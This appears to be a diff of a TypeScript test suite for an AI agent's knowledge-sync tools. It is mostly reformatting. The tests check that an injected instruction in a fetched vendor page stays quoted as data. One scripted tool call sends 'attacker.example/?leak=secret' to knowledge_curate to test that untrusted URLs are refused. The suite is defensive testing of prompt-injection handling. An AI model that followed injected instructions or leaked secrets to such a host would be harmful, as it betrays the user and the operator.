@@ -22,24 +22,39 @@ beforeAll(async () => {
   process.env[ALLOW_HOSTS_ENV] = '127.0.0.1'
   server = await startWebServer({ '/vendor': text(`# Vendor limits\n\n${INJECTION}\n\nThe real limit is 100 requests per minute.\n`) })
 })
-afterAll(async () => { delete process.env[ALLOW_HOSTS_ENV]; await server.close() })
-afterEach(async () => { await loop?.dispose(); loop = undefined; server.seen.length = 0 })
+afterAll(async () => {
+  delete process.env[ALLOW_HOSTS_ENV]
+  await server.close()
+})
+afterEach(async () => {
+  await loop?.dispose()
+  loop = undefined
+  server.seen.length = 0
+})
 
 function prepareRoot(roots = false): string {
   const root = join(mkdtempSync(join(tmpdir(), 'dsh-ks-syncloop-')), 'kb')
   mkdirSync(root, { recursive: true })
   writeFileSync(join(root, 'vendor.md'), '---\nid: vendor\ntitle: Vendor limits\n---\nOur summary.\n<!-- upstream:start name="limits" -->\n<!-- upstream:end -->\n')
-  writeFileSync(join(root, 'sources.yml'), `sources:\n  - { name: vendor, type: http, url: "${server.url}/vendor", target: { file: vendor.md, section: limits } }\n${roots ? `roots:\n  - { name: docs, url: "${server.url}/docs/" }\n` : ''}`)
+  writeFileSync(
+    join(root, 'sources.yml'),
+    `sources:\n  - { name: vendor, type: http, url: "${server.url}/vendor", target: { file: vendor.md, section: limits } }\n${roots ? `roots:\n  - { name: docs, url: "${server.url}/docs/" }\n` : ''}`,
+  )
   return root
 }
 
 function toolResults(request: LoopRequest): string[] {
-  return (request.options.messages as any[]).flatMap((m) => (m.content ?? []).filter((b: any) => b.type === 'tool-result')
-    .map((b: any) => (b.content ?? []).map((c: any) => c.text ?? '').join('') + (b.isError ? ' [isError]' : '')))
+  return (request.options.messages as any[]).flatMap((m) =>
+    (m.content ?? []).filter((b: any) => b.type === 'tool-result').map((b: any) => (b.content ?? []).map((c: any) => c.text ?? '').join('') + (b.isError ? ' [isError]' : '')),
+  )
 }
 
 async function boot(root: string, script: Parameters<typeof createLoop>[0], syncConfig: Record<string, unknown> = {}) {
-  const rows: Row[] = [[knowledge, { root }], [recall, { sameWorkspaceOnly: false }], [sync, syncConfig]]
+  const rows: Row[] = [
+    [knowledge, { root }],
+    [recall, { sameWorkspaceOnly: false }],
+    [sync, syncConfig],
+  ]
   loop = await createLoop(script, rows)
   return (loop.ctx as any).knowledgeSync as KnowledgeSync
 }
@@ -47,7 +62,7 @@ async function boot(root: string, script: Parameters<typeof createLoop>[0], sync
 describe('synced text through knowledge_read', () => {
   it('is framed as data from its URL, and the injected instruction stays quoted text', async () => {
     const root = prepareRoot()
-    const script = byPrompt({ 'limits': [{ toolCalls: [{ name: 'knowledge_read', arguments: { id: 'vendor' } }] }, { text: 'The limit is 100 requests per minute.' }] })
+    const script = byPrompt({ limits: [{ toolCalls: [{ name: 'knowledge_read', arguments: { id: 'vendor' } }] }, { text: 'The limit is 100 requests per minute.' }] })
     const service = await boot(root, script)
     expect(server.seen).toHaveLength(0)
     const report = await service.run()
@@ -69,15 +84,20 @@ describe('synced text through knowledge_read', () => {
 })
 
 describe('knowledge_curate', () => {
-  it('lists pending URLs and records the agent\'s verdicts, but cannot overwrite a locked human verdict', async () => {
+  it("lists pending URLs and records the agent's verdicts, but cannot overwrite a locked human verdict", async () => {
     const root = prepareRoot(true)
-    const kept = `${server.url}/guide`, locked = `${server.url}/old`
+    const kept = `${server.url}/guide`,
+      locked = `${server.url}/old`
     const script = byPrompt({
-      'curate': [
+      curate: [
         { toolCalls: [{ name: 'knowledge_curate', arguments: { action: 'list' } }] },
         { toolCalls: [{ name: 'knowledge_curate', arguments: { action: 'decide', url: kept, verdict: 'in-use', target_file: 'vendor.md', target_section: 'limits', reason: 'the canonical guide' } }] },
         { toolCalls: [{ name: 'knowledge_curate', arguments: { action: 'decide', url: locked, verdict: 'in-use', target_file: 'vendor.md', target_section: 'limits' } }] },
-        { toolCalls: [{ name: 'knowledge_curate', arguments: { action: 'decide', url: 'https://attacker.example/?leak=secret', verdict: 'in-use', target_file: 'vendor.md', target_section: 'limits' } }] },
+        {
+          toolCalls: [
+            { name: 'knowledge_curate', arguments: { action: 'decide', url: 'https://attacker.example/?leak=secret', verdict: 'in-use', target_file: 'vendor.md', target_section: 'limits' } },
+          ],
+        },
         { text: 'done' },
       ],
     })
@@ -112,7 +132,7 @@ describe('the tool list', () => {
   })
 })
 
-describe('the row\'s timers', () => {
+describe("the row's timers", () => {
   it('never syncs on its own by default, and syncs once shortly after start with onStart', async () => {
     await boot(prepareRoot(), byPrompt({}, { text: 'ok' }))
     await new Promise((r) => setTimeout(r, 1500))
